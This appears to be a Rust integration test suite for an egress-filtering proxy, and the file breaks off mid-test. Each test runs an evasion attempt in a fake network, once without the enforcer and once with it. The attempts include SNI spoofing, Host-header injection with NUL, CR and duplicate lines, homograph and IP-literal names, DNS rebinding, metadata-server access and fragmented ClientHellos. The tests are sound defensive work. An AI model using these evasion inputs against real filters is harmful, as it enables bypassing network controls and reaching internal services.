//! The interceptor end to end (issue: Interceptor), with real clients in real namespaces:
//! curl (direct, HTTPS_PROXY, http_proxy, --noproxy), python3 (urllib, http.client, ssl, raw
//! sockets), probe and hand-built ClientHellos. Every attack of THREATS.md C and D that needs no
//! TLS termination is run once WITHOUT the enforcer (it must work: the set-up is sound) and once
//! WITH it (it must fail the documented way, DESIGN.md §6). Assertions are on what the client saw.

use std::net::IpAddr;

use egress_tests::{
    addrs::*,
    agent::{policy_with_profiles, test_policy, Agent},
    clients::*,
    require_root,
    topology::Topology,
    FakeNet,
};
use serde_json::Value;

const PROXY: &str = "http://egress.internal:3128";

fn ca(net: &FakeNet) -> String {
    net.ca_pem.to_str().unwrap().to_string()
}

/// The deny contract as the client saw it: status, Proxy-Status, Content-Type, JSON fields.
#[allow(clippy::too_many_arguments)] // one argument per part of the contract
fn assert_contract(
    what: &str,
    status: u16,
    proxy_status: Option<String>,
    content_type: Option<String>,
    body: &Value,
    code: &str,
    host: &str,
    port: u16,
) {
    assert_eq!(status, 403, "{what}: status (body {body})");
    let ps = proxy_status.unwrap_or_else(|| panic!("{what}: no Proxy-Status header"));
    let rfc9209 = if code == "destination_ip_prohibited" {
        "destination_ip_prohibited"
    } else {
        "http_request_denied"
    };
    assert!(
        ps.starts_with(&format!("egress-agent; error={rfc9209}; details=\"")) && ps.ends_with('"'),
        "{what}: Proxy-Status {ps:?}"
    );
    assert_eq!(
        content_type.as_deref(),
        Some("application/json"),
        "{what}: Content-Type"
    );
    let obj = body
        .as_object()
        .unwrap_or_else(|| panic!("{what}: body is not a JSON object: {body}"));
    let keys: Vec<&str> = obj.keys().map(String::as_str).collect();
    let mut want = DENY_FIELDS.to_vec();
    want.sort();
    let mut got = keys.clone();
    got.sort();
    assert_eq!(got, want, "{what}: JSON fields");
    assert_eq!(body["error"], code, "{what}: {body}");
    assert_eq!(body["host"], host, "{what}: {body}");
    assert_eq!(body["port"], port, "{what}: {body}");
    assert!(
        body["reason"].as_str().is_some_and(|r| !r.is_empty()),
        "{what}: reason {body}"
    );
    assert!(
        body["rule"].is_null() || body["rule"].is_string(),
        "{what}: rule {body}"
    );
    assert_eq!(body["policy"], "test-1", "{what}: {body}");
    assert!(body["hint"].is_string(), "{what}: hint {body}");
}

fn assert_raw_contract(what: &str, r: &Raw, code: &str, host: &str, port: u16) {
    assert_contract(
        what,
        r.http_status().unwrap_or(0),
        r.http_header("Proxy-Status"),
        r.http_header("Content-Type"),
        &r.http_json(),
        code,
        host,
        port,
    );
}

fn assert_curl_contract(what: &str, c: &Curl, code: &str, host: &str, port: u16) {
    assert_contract(
        what,
        c.status,
        c.header("Proxy-Status"),
        c.header("Content-Type"),
        &c.json(),
        code,
        host,
        port,
    );
}

/// fakenet's echo JSON: the request reached the fake internet on `server` (an IPv4 echo
/// address), or on the IPv6 address of the same name (the agent dials either family of its own
/// resolution).
fn assert_echo(what: &str, body: &Value, server: &str) {
    let want: std::net::SocketAddrV4 = server.parse().unwrap();
    let mut ok = vec![server.to_string()];
    if let Some(i) = WEB_V4.iter().position(|a| a == want.ip()) {
        ok.push(format!("[{}]:{}", WEB_V6[i], want.port()));
    }
    assert!(
        body["server"]
            .as_str()
            .is_some_and(|s| ok.iter().any(|o| o == s)),
        "{what}: expected fakenet's echo from {ok:?}, got {body}"
    );
}

/// The connection was reset: ECONNRESET on a read, or ENOTCONN / EPIPE when the reset arrived
/// before the client's next send or shutdown.
fn was_reset(r: &Raw) -> bool {
    r.reply.is_empty() && matches!(r.errno, Some(104 | 107 | 32))
}

/// The DNS reply said NXDOMAIN.
fn nxdomain(d: &Value) -> bool {
    d["rcode_num"] == 3
}

/// The DNS reply to a denied name under `dns_deny = "explain"` (the default): NOERROR, A =
/// egress.internal's address (none for other types), Extended DNS Error 4 "Forged Answer".
fn steered(d: &Value) -> bool {
    let ips_ok = match d["type"].as_str() {
        Some("A") | None => d["ips"] == serde_json::json!(["192.0.2.1"]),
        _ => d["ips"] == serde_json::json!([]),
    };
    d["rcode_num"] == 0 && ips_ok && d["ede"][0]["info_code"] == 4
}

fn http_to(topo: &Topology, ip: impl Into<IpAddr>, port: u16, host: &str) -> Raw {
    raw(
        topo,
        &ip.into().to_string(),
        port,
        &http_get(host),
        0,
        false,
    )
}

fn w1() -> String {
    WEB1.to_string()
}

// ---------------------------------------------------------------------------------------------
// Allowed names work, with every client and every way of asking.
// ---------------------------------------------------------------------------------------------

/// The clients that must work both with and without the enforcer.
fn allowed_direct(topo: &Topology, net: &FakeNet, with_agent: bool) {
    let ca = ca(net);
    let tag = if with_agent { "with agent" } else { "direct" };
    let c = curl(topo, &["http://allowed.test/"], &[]);
    assert_eq!(c.status, 200, "curl http ({tag}): {c:?}");
    assert_echo(&format!("curl http ({tag})"), &c.json(), "198.51.100.10:80");
    assert_eq!(c.json()["host"], "allowed.test");

    let c = curl(topo, &["--cacert", &ca, "https://allowed.test/"], &[]);
    assert_eq!(c.status, 200, "curl https ({tag}): {c:?}");
    assert_echo(
        &format!("curl https ({tag})"),
        &c.json(),
        "198.51.100.10:443",
    );
    assert_eq!(c.json()["sni"], "allowed.test");

    let c = curl(topo, &["--cacert", &ca, "https://www.allowed.test/"], &[]);
    assert_eq!(c.status, 200, "curl https wildcard ({tag}): {c:?}");
    assert_eq!(c.json()["sni"], "www.allowed.test");

    let c = curl(
        topo,
        &["-6", "--cacert", &ca, "https://api.allowed.test/"],
        &[],
    );
    assert_eq!(c.status, 200, "curl -6 https ({tag}): {c:?}");

    let v = python(topo, PY_URLLIB, &["https://allowed.test/", &ca], &[]);
    assert_eq!(v["status"], 200, "python urllib https ({tag}): {v}");
    let body: Value = serde_json::from_str(v["body"].as_str().unwrap()).unwrap();
    assert_echo("python urllib", &body, "198.51.100.10:443");

    let v = python(topo, PY_HTTP_CLIENT, &[&w1(), "80", "allowed.test"], &[]);
    assert_eq!(v["status"], 200, "python http.client ({tag}): {v}");

    let v = python(topo, PY_TLS, &[&w1(), "443", "allowed.test", &ca], &[]);
    assert_eq!(v["ok"], true, "python ssl ({tag}): {v}");
    assert!(v["body"]
        .as_str()
        .unwrap()
        .contains("\"sni\":\"allowed.test\""));

    let p = topo.probe(&[
        "tcp",
        "198.51.100.10:80",
        "--send",
        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n",
        "--read",
    ]);
    assert!(
        p["reply"]
            .as_str()
            .unwrap_or("")
            .starts_with("HTTP/1.1 200"),
        "probe ({tag}): {p}"
    );
}

#[test]
fn allowed_names_work_over_http_and_https_with_curl_python_and_probe() {
    require_root!();
    let topo = Topology::new("icpt_allowed");
    let net = topo.start_fakenet();
    allowed_direct(&topo, &net, false);

    let agent = Agent::attach(&topo, &test_policy(&[]));
    allowed_direct(&topo, &net, true);
    let ca = ca(&net);

    // Clients that honour HTTPS_PROXY: the same policy through an explicit CONNECT.
    let c = curl(
        &topo,
        &["--cacert", &ca, "https://allowed.test/"],
        &[("HTTPS_PROXY", PROXY)],
    );
    assert_eq!(c.status, 200, "curl via HTTPS_PROXY: {c:?}");
    assert!(
        c.headers.contains("200 Connection Established"),
        "curl used the proxy: {c:?}"
    );
    assert_echo("curl via HTTPS_PROXY", &c.json(), "198.51.100.10:443");

    // --noproxy '*' with the variable set: transparent interception instead.
    let c = curl(
        &topo,
        &["--noproxy", "*", "--cacert", &ca, "https://allowed.test/"],
        &[("HTTPS_PROXY", PROXY)],
    );
    assert_eq!(c.status, 200, "curl --noproxy: {c:?}");
    assert!(!c.headers.contains("Connection Established"), "{c:?}");

    // Plain HTTP through http_proxy: absolute-form, forwarded as origin-form.
    let c = curl(
        &topo,
        &["http://allowed.test/x?y=1"],
        &[("http_proxy", PROXY)],
    );
    assert_eq!(c.status, 200, "curl via http_proxy: {c:?}");
    assert_eq!(c.json()["uri"], "/x?y=1", "{c:?}");

    let v = python(
        &topo,
        PY_URLLIB,
        &["https://allowed.test/", &ca],
        &[("HTTPS_PROXY", PROXY)],
    );
    assert_eq!(v["status"], 200, "python urllib via HTTPS_PROXY: {v}");

    // Every one of them was an allow decision in the audit log.
    let recs = agent.audit_records(12);
    let allows = recs
        .iter()
        .filter(|r| r["decision"] == "allow" && r["protocol"] != "dns")
        .count();
    assert!(allows >= 12, "allow records: {recs:#?}");
}

// ---------------------------------------------------------------------------------------------
// Everything else: the deny contract on every kind of connection.
// ---------------------------------------------------------------------------------------------

#[test]
fn denied_names_get_the_deny_contract_on_every_protocol() {
    require_root!();
    let topo = Topology::new("icpt_denied");
    let net = topo.start_fakenet();
    let ca = ca(&net);

    // Without the enforcer every one of these reaches the fake internet.
    let c = curl(&topo, &["http://other.test/"], &[]);
    assert_echo("direct http", &c.json(), "198.51.100.11:80");
    let c = curl(&topo, &["--cacert", &ca, "https://other.test/"], &[]);
    assert_echo("direct https", &c.json(), "198.51.100.11:443");
    let r = raw(
        &topo,
        "198.51.100.11",
        443,
        &client_hello(Some(b"other.test"), 0),
        0,
        false,
    );
    assert!(r.server_hello(), "direct ClientHello: {r:?}");
    let p = topo.probe(&[
        "tcp",
        "198.51.100.10:7",
        "--send",
        "hi",
        "--shut-wr",
        "--read",
    ]);
    assert_eq!(p["reply"], "hi", "direct echo: {p}");
    let d = topo.probe(&["dns", "203.0.113.53", "other.test"]);
    assert_eq!(
        d["ips"],
        serde_json::json!(["198.51.100.11"]),
        "direct dns: {d}"
    );
    let queries_before = net.queries().len();
    let web2_before = net.connections_to(WEB2.into()).len();

    let agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard(
        "C",
        "denied name: 403 over HTTP, http_proxy, CONNECT; TLS alert; reset for opaque TCP",
    );
    let _threat1 = egress_tests::threat_guard(
        "D",
        "DNS for a denied name: egress.internal's address + EDE 4, never forwarded",
    );

    // Plain HTTP (python http.client, curl with --resolve since DNS refuses the name).
    let v = python(
        &topo,
        PY_HTTP_CLIENT,
        &["198.51.100.11", "80", "other.test"],
        &[],
    );
    let body: Value = serde_json::from_str(v["body"].as_str().unwrap_or("")).unwrap_or_default();
    let hdr = |k: &str| {
        v["headers"].as_object().and_then(|h| {
            h.iter()
                .find(|(n, _)| n.eq_ignore_ascii_case(k))
                .and_then(|(_, v)| v.as_str().map(str::to_string))
        })
    };
    assert_contract(
        "python http.client",
        v["status"].as_u64().unwrap_or(0) as u16,
        hdr("Proxy-Status"),
        hdr("Content-Type"),
        &body,
        "host_not_allowed",
        "other.test",
        80,
    );
    let c = curl(
        &topo,
        &[
            "--resolve",
            "other.test:80:198.51.100.11",
            "http://other.test/",
        ],
        &[],
    );
    assert_curl_contract("curl http", &c, "host_not_allowed", "other.test", 80);

    // Through http_proxy (absolute-form) and HTTPS_PROXY (CONNECT).
    let c = curl(&topo, &["http://other.test/"], &[("http_proxy", PROXY)]);
    assert_curl_contract(
        "curl via http_proxy",
        &c,
        "host_not_allowed",
        "other.test",
        80,
    );
    let c = curl(
        &topo,
        &["--cacert", &ca, "https://other.test/"],
        &[("HTTPS_PROXY", PROXY)],
    );
    assert_ne!(c.exit, 0, "{c:?}");
    assert!(
        c.stderr.contains("CONNECT tunnel failed, response 403"),
        "curl via HTTPS_PROXY: {c:?}"
    );
    let r = raw(
        &topo,
        "192.0.2.1",
        3128,
        b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n",
        0,
        false,
    );
    assert_raw_contract("raw CONNECT", &r, "host_not_allowed", "other.test", 443);
    let v = python(
        &topo,
        PY_URLLIB,
        &["https://other.test/", &ca],
        &[("HTTPS_PROXY", PROXY)],
    );
    assert!(
        v["error"].as_str().unwrap_or("").contains("403"),
        "python urllib via HTTPS_PROXY: {v}"
    );

    // TLS from a sandbox not known to trust the agent's CA: an access_denied alert, as each
    // client words it.
    let c = curl(
        &topo,
        &[
            "--resolve",
            "other.test:443:198.51.100.11",
            "--cacert",
            &ca,
            "https://other.test/",
        ],
        &[],
    );
    assert_eq!(c.exit, 35, "curl https: {c:?}");
    assert!(
        c.stderr.contains("alert access denied"),
        "curl https: {c:?}"
    );
    let v = python(
        &topo,
        PY_TLS,
        &["198.51.100.11", "443", "other.test", &ca],
        &[],
    );
    assert!(
        v["error"].as_str().unwrap_or("").contains("ACCESS_DENIED"),
        "python ssl: {v}"
    );
    let r = raw(
        &topo,
        "198.51.100.11",
        443,
        &client_hello(Some(b"other.test"), 0),
        0,
        false,
    );
    assert_eq!(
        r.tls_alert(),
        Some((2, ALERT_ACCESS_DENIED)),
        "raw ClientHello: {r:?}"
    );

    // Opaque TCP with no name: reset.
    let p = topo.probe(&["tcp", "198.51.100.10:7", "--send", "hi", "--read"]);
    assert_eq!(p["errno"], ECONNRESET, "opaque TCP: {p}");

    // DNS: egress.internal's address + EDE 4 (the connection that follows explains the
    // denial, as above), never forwarded.
    let d = topo.probe(&["dns", "203.0.113.53", "other.test"]);
    assert!(steered(&d), "dns: {d}");
    assert!(
        d["ede"][0]["extra_text"]
            .as_str()
            .unwrap_or("")
            .contains("other.test"),
        "dns: {d}"
    );
    assert_eq!(
        net.queries().len(),
        queries_before,
        "a query left: {:?}",
        net.queries()
    );

    // Nothing of it reached other.test's server; each denial is an audit record.
    assert_eq!(
        net.connections_to(WEB2.into()).len(),
        web2_before,
        "reached other.test"
    );
    // The DNS question was the last denial made, so its record is the last one written.
    let dns_denial =
        |r: &Value| r["decision"] == "deny" && r["protocol"] == "dns" && r["name"] == "other.test";
    let recs = agent.audit_records_until(dns_denial);
    let denials: Vec<&Value> = recs.iter().filter(|r| r["decision"] == "deny").collect();
    for code in ["host_not_allowed", "protocol_not_allowed"] {
        assert!(
            denials.iter().any(|r| r["code"] == code),
            "no {code} record: {denials:#?}"
        );
    }
    assert!(
        recs.iter().any(dns_denial),
        "no DNS denial record: {denials:#?}"
    );
}

// ---------------------------------------------------------------------------------------------
// THREATS C: fooling the interceptor.
// ---------------------------------------------------------------------------------------------

#[test]
fn sni_spoofing_reaches_the_agents_own_resolution_not_the_clients_address() {
    require_root!();
    let topo = Topology::new("icpt_sni_spoof");
    let net = topo.start_fakenet();
    let ca = ca(&net);
    let spoof_tls = [
        "--resolve",
        "allowed.test:443:198.51.100.11",
        "--cacert",
        &ca,
        "https://allowed.test/",
    ];
    let spoof_http = [
        "--resolve",
        "allowed.test:80:198.51.100.11",
        "http://allowed.test/",
    ];
    // Without the enforcer the allowed name is carried to the attacker's address.
    let c = curl(&topo, &spoof_tls, &[]);
    assert_echo("direct spoofed SNI", &c.json(), "198.51.100.11:443");
    let c = curl(&topo, &spoof_http, &[]);
    assert_echo("direct spoofed Host", &c.json(), "198.51.100.11:80");

    let agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 =
        egress_tests::threat_guard("C", "SNI spoofing: allowed SNI to an attacker's address");
    let before = net.connections_to(WEB2.into()).len();
    let c = curl(&topo, &spoof_tls, &[]);
    assert_eq!(c.status, 200, "{c:?}");
    assert_echo("spoofed SNI", &c.json(), "198.51.100.10:443");
    let c = curl(&topo, &spoof_http, &[]);
    assert_echo("spoofed Host", &c.json(), "198.51.100.10:80");
    assert_eq!(
        net.connections_to(WEB2.into()).len(),
        before,
        "reached the client's choice"
    );

    let recs = agent.audit_records(2);
    let rec = recs
        .iter()
        .find(|r| r["orig_dst"] == "198.51.100.11:443")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert!(
        ["198.51.100.10:443", "[2001:db8:100::10]:443"]
            .contains(&rec["upstream"].as_str().unwrap_or("")),
        "{rec}"
    );
    assert_eq!(rec["name"], "allowed.test");
}

#[test]
fn absolute_form_and_connect_targets_are_judged_by_what_they_name() {
    require_root!();
    let topo = Topology::new("icpt_absolute");
    let net = topo.start_fakenet();
    let abs = |target: &str, host: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into_bytes()
    };
    // Without the enforcer, an absolute-form request to an allowed address is served.
    let r = raw(
        &topo,
        &w1(),
        80,
        &abs("http://other.test/", "other.test"),
        0,
        false,
    );
    assert_eq!(r.http_status(), Some(200), "{r:?}");
    assert_eq!(r.http_json()["uri"], "http://other.test/");

    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard(
        "C",
        "absolute-form target vs Host; CONNECT target vs SNI/Host; https absolute-form",
    );
    let r = raw(
        &topo,
        &w1(),
        80,
        &abs("http://other.test/", "other.test"),
        0,
        false,
    );
    assert_raw_contract(
        "absolute-form other.test",
        &r,
        "host_not_allowed",
        "other.test",
        80,
    );
    // Absolute-form naming another host than Host: refused, whichever of the two is allowed.
    for (target, host) in [
        ("http://other.test/", "allowed.test"),
        ("http://allowed.test/", "other.test"),
    ] {
        let r = raw(&topo, &w1(), 80, &abs(target, host), 0, false);
        // host_mismatch is 421 Misdirected Request (deny.rs), with the same JSON and header.
        assert!(
            matches!(r.http_status(), Some(403 | 421)),
            "{target} Host {host}: {}",
            r.text()
        );
        assert_eq!(r.http_json()["error"], "host_mismatch", "{}", r.text());
        assert!(r.http_header("Proxy-Status").is_some(), "{}", r.text());
    }
    // An allowed absolute-form target sent to another address goes to the target's address,
    // rewritten to origin-form.
    let r = raw(
        &topo,
        "198.51.100.11",
        80,
        &abs("http://allowed.test/p", "allowed.test"),
        0,
        false,
    );
    assert_eq!(r.http_status(), Some(200), "{}", r.text());
    assert_echo("absolute-form allowed", &r.http_json(), "198.51.100.10:80");
    assert_eq!(r.http_json()["uri"], "/p");
    // https:// in absolute-form is not a thing a proxy forwards in clear.
    let r = raw(
        &topo,
        &w1(),
        80,
        &abs("https://allowed.test/", "allowed.test"),
        0,
        false,
    );
    assert_raw_contract(
        "https absolute-form",
        &r,
        "protocol_not_allowed",
        "allowed.test",
        80,
    );

    // CONNECT to an allowed name, then a ClientHello for another: refused inside the tunnel.
    let mut bytes = b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n".to_vec();
    bytes.extend_from_slice(&client_hello(Some(b"other.test"), 0));
    let r = raw(&topo, "192.0.2.1", 3128, &bytes, 0, false);
    let text = r.text();
    assert!(text.starts_with("HTTP/1.1 200"), "{r:?}");
    let tls = &r.reply[text.find("\r\n\r\n").unwrap() + 4..];
    assert!(
        matches!(tls, [21, 3, _, 0, 2, 2, ALERT_ACCESS_DENIED, ..]),
        "CONNECT allowed.test then SNI other.test: {r:?}"
    );
    assert_eq!(net.connections_to(WEB2.into()).len(), 0);
}

/// Host header and SNI spellings against a wildcard-only profile (`*.allowed.test`).
#[test]
fn name_tricks_are_canonicalised_or_refused() {
    require_root!();
    let topo = Topology::new("icpt_names");
    let net = topo.start_fakenet();
    // (Host header, expected: Ok(()) = served by WEB1, Err(code) = refused with that code)
    let cases: &[(&str, Result<(), &str>)] = &[
        ("www.allowed.test", Ok(())),
        ("WWW.Allowed.TEST", Ok(())),
        ("www.allowed.test.", Ok(())),
        ("WWW.ALLOWED.TEST.", Ok(())),
        ("www.allowed.test:80", Ok(())),
        // Fullwidth letters map to ASCII (UTS 46): the same name.
        ("ｗｗｗ.allowed.test", Ok(())),
        // Wildcard boundaries.
        ("allowed.test", Err("host_not_allowed")),
        ("evilallowed.test", Err("host_not_allowed")),
        ("www.evilallowed.test", Err("host_not_allowed")),
        ("www.allowed.test.evil", Err("host_not_allowed")),
        ("allowed.test.evil", Err("host_not_allowed")),
        ("www.allowed.testevil", Err("host_not_allowed")),
        // Allowed by the wildcard, but fakenet has no such name.
        ("deep.www.allowed.test", Err("dns_error")),
        // Homograph: Cyrillic 'а' is another name.
        ("www.\u{0430}llowed.test", Err("host_not_allowed")),
        // Userinfo, IP literals and their non-canonical spellings.
        ("other.test@www.allowed.test", Err("host_not_allowed")),
        ("198.51.100.10", Err("host_not_allowed")),
        ("3325256714", Err("host_not_allowed")),
        ("0xc6.51.100.10", Err("host_not_allowed")),
        ("[2001:db8:100::10]", Err("host_not_allowed")),
        ("www.allowed.test..", Err("host_not_allowed")),
    ];
    let policy = policy_with_profiles(&[("default", &["*.allowed.test"])]);
    // Without the enforcer every one of them reaches the server.
    let r = http_to(&topo, WEB1, 80, "evilallowed.test");
    assert_eq!(r.http_status(), Some(200), "{r:?}");

    let _agent = Agent::attach(&topo, &policy);
    let _threat0 = egress_tests::threat_guard("C", "name tricks: case, trailing dot, ports, IDN, NUL/CR/LF, wildcard boundaries (Host and SNI)");
    for (host, want) in cases {
        let r = http_to(&topo, WEB1, 80, host);
        match want {
            Ok(()) => {
                assert_eq!(r.http_status(), Some(200), "Host {host:?}: {}", r.text());
                assert_echo(host, &r.http_json(), "198.51.100.10:80");
            }
            Err(code) => {
                assert_eq!(r.http_status(), Some(403), "Host {host:?}: {}", r.text());
                // A Host the HTTP reader already refuses as malformed is protocol_not_allowed.
                let got = r.http_json()["error"].as_str().unwrap_or("").to_string();
                assert!(
                    got == *code || (*code == "host_not_allowed" && got == "protocol_not_allowed"),
                    "Host {host:?}: {}",
                    r.text()
                );
            }
        }
    }
    // Bytes no name may hold: NUL, bare CR, an injected second Host line, obs-fold.
    let before = net.connections_to(WEB1.into()).len();
    let evil: &[&[u8]] = &[
        b"GET / HTTP/1.1\r\nHost: www.allowed.test\0.evil.test\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: evil.test\rHost: www.allowed.test\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: www.allowed.test\r\nHost: other.test\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: other.test\r\nHost: www.allowed.test\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: www.allowed.test\r\n other.test\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n",
    ];
    for bytes in evil {
        let r = raw(&topo, &w1(), 80, bytes, 0, false);
        let ok = r.http_status() == Some(403) || was_reset(&r);
        assert!(ok, "{:?}: {r:?}", String::from_utf8_lossy(bytes));
    }
    assert_eq!(
        net.connections_to(WEB1.into()).len(),
        before,
        "an evil Host got through"
    );

    // The same names as SNI.
    let sni: &[(&[u8], bool)] = &[
        (b"www.allowed.test", true),
        (b"WWW.ALLOWED.TEST.", true),
        (b"allowed.test", false),
        (b"evilallowed.test", false),
        (b"www.allowed.test.evil", false),
        (b"www.allowed.test\0.evil", false),
        (b"198.51.100.10", false),
        (b"3325256714", false),
        (b"\xff\xfe", false),
    ];
    for (name, ok) in sni {
        let r = raw(&topo, &w1(), 443, &client_hello(Some(name), 0), 0, false);
        if *ok {
            assert!(
                r.server_hello(),
                "SNI {:?}: {r:?}",
                String::from_utf8_lossy(name)
            );
        } else {
            assert_eq!(
                r.tls_alert().map(|a| a.0),
                Some(2),
                "SNI {:?}: {r:?}",
                String::from_utf8_lossy(name)
            );
        }
    }
}

#[test]
fn allowed_names_that_resolve_internal_are_refused_by_address() {
    require_root!();
    let topo = Topology::new("icpt_internal");
    let net = topo.start_fakenet();
    let ca = ca(&net);
    // Without the enforcer: the private server and the metadata server answer.
    let c = curl(&topo, &["http://internal.test/"], &[]);
    assert_eq!(c.body, PRIVATE_BODY, "{c:?}");
    let c = curl(&topo, &["http://metadata.test/"], &[]);
    assert!(c.body.contains(METADATA_SECRET), "{c:?}");

    let direct = [
        PRIVATE.into(),
        PRIVATE_V6.into(),
        METADATA.into(),
        METADATA_V6.into(),
    ]
    .iter()
    .map(|ip: &IpAddr| net.connections_to(*ip).len())
    .sum::<usize>();
    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard(
        "B",
        "allowed names resolving to private and metadata addresses (DNS, Host, proxy, SNI)",
    );
    // DNS never hands out the private addresses.
    for (name, qtype) in [
        ("internal.test", "A"),
        ("internal.test", "AAAA"),
        ("metadata.test", "A"),
        ("metadata.test", "AAAA"),
    ] {
        let d = topo.probe(&["dns", "203.0.113.53", name, "--type", qtype]);
        assert!(nxdomain(&d), "{name} {qtype}: {d}");
        assert_eq!(d["answers"], serde_json::json!([]), "{d}");
        assert_eq!(d["ede"][0]["info_code"], 15, "{d}");
        assert!(
            d["ede"][0]["extra_text"]
                .as_str()
                .unwrap()
                .contains("prohibited"),
            "{d}"
        );
    }
    // Named on an allowed address, through the proxy, or as SNI: the agent's own lookup is
    // checked and refused.
    for name in ["internal.test", "metadata.test"] {
        let r = http_to(&topo, WEB1, 80, name);
        assert_raw_contract(name, &r, "destination_ip_prohibited", name, 80);
        let url = format!("http://{name}/");
        let c = curl(&topo, &[&url], &[("http_proxy", PROXY)]);
        assert_curl_contract(&url, &c, "destination_ip_prohibited", name, 80);
        let url = format!("https://{name}/");
        let c = curl(&topo, &["--cacert", &ca, &url], &[("HTTPS_PROXY", PROXY)]);
        assert!(c.stderr.contains("response 403"), "{c:?}");
        let r = raw(
            &topo,
            &w1(),
            443,
            &client_hello(Some(name.as_bytes()), 0),
            0,
            false,
        );
        assert_eq!(
            r.tls_alert(),
            Some((2, ALERT_ACCESS_DENIED)),
            "{name} SNI: {r:?}"
        );
        assert!(!r.text().contains(METADATA_SECRET));
    }
    let reached = |net: &FakeNet| {
        [
            PRIVATE.into(),
            PRIVATE_V6.into(),
            METADATA.into(),
            METADATA_V6.into(),
        ]
        .iter()
        .map(|ip: &IpAddr| net.connections_to(*ip).len())
        .sum::<usize>()
    };
    assert_eq!(reached(&net), direct, "the private servers were reached");
}

#[test]
fn dns_rebinding_with_ttl_zero_never_reaches_the_private_address() {
    require_root!();
    let topo = Topology::new("icpt_rebind");
    let net = topo.start_fakenet();
    let mut seen = std::collections::BTreeSet::new();
    for _ in 0..4 {
        let d = topo.probe(&["dns", "203.0.113.53", "rebind.test"]);
        for ip in d["ips"].as_array().unwrap() {
            seen.insert(ip.as_str().unwrap().to_string());
        }
    }
    assert!(
        seen.contains("10.66.0.10") && seen.contains("198.51.100.10"),
        "{seen:?}"
    );

    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard("C", "DNS rebinding, TTL 0");
    let (mut served, mut refused) = (0, 0);
    for _ in 0..6 {
        let d = topo.probe(&["dns", "203.0.113.53", "rebind.test"]);
        assert!(!d["ips"].to_string().contains("10.66.0.10"), "{d}");
        let r = http_to(&topo, WEB1, 80, "rebind.test");
        assert!(!r.text().ends_with(PRIVATE_BODY), "{}", r.text());
        match r.http_status() {
            Some(200) => {
                served += 1;
                assert_echo("rebind", &r.http_json(), "198.51.100.10:80");
            }
            Some(403) => {
                refused += 1;
                assert_eq!(r.http_json()["error"], "destination_ip_prohibited", "{r:?}");
            }
            _ => panic!("{r:?}"),
        }
    }
    assert_eq!(served + refused, 6);
    assert_eq!(net.connections_to(PRIVATE.into()).len(), 0);
}

#[test]
fn tls_without_sni_with_ip_sni_split_or_in_tiny_records() {
    require_root!();
    let topo = Topology::new("icpt_tls_edges");
    let net = topo.start_fakenet();
    let ca = ca(&net);
    // Without the enforcer a fragmented ClientHello is valid TLS: the server answers.
    let frag = client_hello(Some(b"other.test"), 16);
    let r = raw(&topo, "198.51.100.11", 443, &frag, 7, false);
    assert!(r.server_hello(), "direct, fragmented: {r:?}");
    let v = python(&topo, PY_TLS, &[&w1(), "443", "", &ca], &[]);
    assert_eq!(v["ok"], true, "direct, no SNI: {v}");

    let _agent = Agent::attach(&topo, &test_policy(&[]));
    let _threat0 = egress_tests::threat_guard(
        "C",
        "no SNI, IP-literal SNI, split ClientHello, tiny records, truncated hello",
    );
    // No SNI (python ssl without server_hostname, and a raw hello): refused.
    let v = python(&topo, PY_TLS, &[&w1(), "443", "", &ca], &[]);
    assert!(
        v["error"].as_str().unwrap_or("").contains("ACCESS_DENIED"),
        "python, no SNI: {v}"
    );
    let r = raw(&topo, &w1(), 443, &client_hello(None, 0), 0, false);
    assert_eq!(
        r.tls_alert(),
        Some((2, ALERT_ACCESS_DENIED)),
        "no SNI: {r:?}"
    );
    // IP literals as SNI.
    for ip in [
        &b"198.51.100.10"[..],
        b"2001:db8:100::10",
        b"0xc6.0x33.0x64.0x0a",
    ] {
        let r = raw(&topo, &w1(), 443, &client_hello(Some(ip), 0), 0, false);
        assert_eq!(r.tls_alert().map(|a| a.0), Some(2), "SNI {ip:?}: {r:?}");
    }
    // Split across segments, tiny records, both: reassembled and judged by the name.
    for (record_max, chunk) in [(0, 1), (0, 7), (16, 0), (8, 5), (1, 0)] {
        let r = raw(
            &topo,
            "198.51.100.11",
            443,
            &client_hello(Some(b"other.test"), record_max),
            chunk,
            false,
        );
        assert_eq!(
            r.tls_alert(),
            Some((2, ALERT_ACCESS_DENIED)),
            "other.test records {record_max} chunk {chunk}: {r:?}"
        );
        let r = raw(
            &topo,
            "198.51.100.11",
            443,
            &client_hello(Some(b"allowed.test"), record_max),
            chunk,
            false,
        );
        assert!(
            r.server_hello(),
            "allowed.test records {record_max} chunk {chunk}: {r:?}"
        );
    }
    // A truncated hello that never completes: closed, never forwarded.
    let hello = client_hello(Some(b"allowed.test"), 0);
    let r = raw(&topo, &w1(), 443, &hello[..40], 0, true);
    assert!(r.reply.is_empty() || r.tls_alert().is_some(), "{r:?}");
}

#[test]
fn non_http_bytes_and_unlisted_ports_on_allowed_hosts_are_refused() {
    require_root!();
    let topo = Topology::new("icpt_ports");
    // cdn.test lives on the echo server's address, so its `cdn.test:7` rule can be exercised.
    let net = topo.start_fakenet_with(&["--record", "cdn.test=198.51.100.10"]);
    let ca = ca(&net);
    let binary = b"\x00\x01\x02\x03SSH-2.0-OpenSSH_9.0\r\n";
    let n = net.connections_to(WEB1.into()).len();
    let _ = raw(&topo, &w1(), 80, binary, 0, true);
    assert_eq!(
        net.connections_to(WEB1.into()).len(),
        n + 1,
